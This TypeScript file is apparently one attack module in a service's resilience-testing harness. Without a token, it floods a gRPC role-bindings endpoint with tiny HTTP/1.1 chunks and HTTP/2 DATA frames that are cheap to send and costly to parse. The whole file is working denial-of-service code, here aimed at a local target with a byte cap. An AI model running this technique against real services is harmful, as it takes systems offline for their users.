// Sends bodies in pieces of a few bytes, without a token, as chunks of HTTP/1.1 and as DATA frames of HTTP/2: each piece
// costs a parser some hundred times what it costs to send.
import { connect, type Socket } from "node:net";
import { type Attack, Counts, pause, pick } from "../support/attack.js";
import { dataFrame, headersFrame, openFrames } from "../support/frames.js";
import type { Target } from "../support/world.js";

const CONNECTIONS = 40;
const STREAMS = 100;
const PIECES_AT_ONCE = 8_000;
/** What one address sends at the most, in bytes. */
const MAX_BYTES = 400 * 1024 * 1024;
const AGAIN_MS = 20;
/** Sizes of pieces: the last is one that a body may have. */
const SIZES = [1, 1, 3, 80];
const PATH = "/chainguard.platform.iam.v2beta1.RoleBindingsService/BatchCreateRoleBindings";
const TYPES = ["application/json", "application/grpc-web+proto", "application/proto"];

const chunksOf = (size: number) =>
  Buffer.from(`${size.toString(16)}\r\n${"x".repeat(size)}\r\n`.repeat(PIECES_AT_ONCE), "latin1");

export const attack: Attack = {
  async run(target, stop) {
    const counts = new Counts();
    const lanes = Array.from({ length: CONNECTIONS }, (_, i) =>
      i % 2 === 0 ? sendChunks(target, i / 2, counts, stop) : sendFrames(target, (i - 1) / 2, counts, stop),
    );
    await Promise.all(lanes);
    return counts;
  },
};

async function sendChunks({ url, addresses }: Target, lane: number, counts: Counts, stop: AbortSignal): Promise<void> {
  const chunks = chunksOf(pick(SIZES, lane));
  const { host, port } = new URL(url);
  for (let sent = 0; !stop.aborted && sent < MAX_BYTES / CONNECTIONS; ) {
    const socket = connect({ host: "127.0.0.1", port: Number(port), localAddress: pick(addresses, lane) });
    counts.add("HTTP/1.1 connections");
    socket.on("error", () => {});
    socket.resume();
    socket.write(
      `POST ${PATH} HTTP/1.1\r\nHost: ${host}\r\nContent-Type: ${pick(TYPES, lane)}\r\nTransfer-Encoding: chunked\r\n\r\n`,
    );
    while (!stop.aborted && socket.writable && sent < MAX_BYTES / CONNECTIONS) {
      sent += chunks.length;
      if (!socket.write(chunks)) await drained(socket);
      else await pause(0, stop);
    }
    socket.destroy();
    await pause(AGAIN_MS, stop);
  }
}

function drained(socket: Socket): Promise<void> {
  return new Promise((resolve) => {
    const go = () => {
      socket.off("drain", go).off("close", go);
      resolve();
    };
    socket.on("drain", go).on("close", go);
  });
}

async function sendFrames({ url, addresses }: Target, lane: number, counts: Counts, stop: AbortSignal): Promise<void> {
  const size = pick(SIZES, lane);
  for (let sent = 0; !stop.aborted && sent < MAX_BYTES / CONNECTIONS; ) {
    const connection = openFrames(url, pick(addresses, lane));
    counts.add("HTTP/2 connections");
    await connection.ready.catch(() => {});
    for (let i = 0; i < STREAMS && !stop.aborted && !connection.isClosed; i++) {
      const stream = 1 + 2 * i;
      const fields = {
        ":method": "POST",
        ":scheme": "http",
        ":authority": new URL(url).host,
        ":path": PATH,
        "content-type": pick(TYPES, lane),
      };
      const piece = dataFrame(stream, Buffer.alloc(size, "x"));
      // Of the window of a connection, 64 KiB may be sent before the peer says more.
      const pieces = Buffer.concat(Array<Buffer>(Math.floor(60_000 / size / STREAMS)).fill(piece));
      connection.send(headersFrame(stream, fields), pieces);
      sent += pieces.length;
    }
    // Afterwards as much as the windows allow, which the service makes larger as it reads.
    let left = 0;
    connection.onFrame = ({ type, stream, payload }) => {
      if (type === 8 && stream === 0) left += payload.readUInt32BE(0);
    };
    const more = dataFrame(1, Buffer.alloc(size, "x"));
    while (!stop.aborted && !connection.isClosed && connection.goaway === undefined && sent < MAX_BYTES / CONNECTIONS) {
      const count = Math.floor(left / size);
      left -= count * size;
      const pieces = Buffer.concat(Array<Buffer>(count).fill(more));
      if (count > 0) connection.send(pieces);
      sent += pieces.length;
      await pause(1, stop);
      if (count === 0) await pause(AGAIN_MS, stop);
    }
    await pause(AGAIN_MS, stop);
    connection.close();
  }
}
